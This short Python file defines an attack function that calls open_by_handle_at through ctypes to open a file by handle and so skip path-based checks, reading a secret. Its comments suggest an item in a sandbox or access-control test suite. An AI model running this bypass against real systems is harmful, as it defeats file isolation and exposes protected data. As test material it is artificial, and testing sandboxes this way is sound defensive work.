# Opens by file handle, which skips the path walk.
# proof: secret
# control: root
import ctypes
import os


def attack(arg):
    libc = ctypes.CDLL(None)
    handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(4 + 128))
    mount = ctypes.c_int()
    assert libc.name_to_handle_at(-100, arg["public"].encode(), handle, ctypes.byref(mount), 0) == 0
    for name in ("/", "/usr", ".", "/proc/self/cwd"):
        try:
            anchor = os.open(name, os.O_RDONLY | os.O_DIRECTORY)
        except OSError:
            continue
        fd = libc.open_by_handle_at(anchor, handle, 0)
        if fd >= 0:
            return os.read(fd, 4096)
    return False
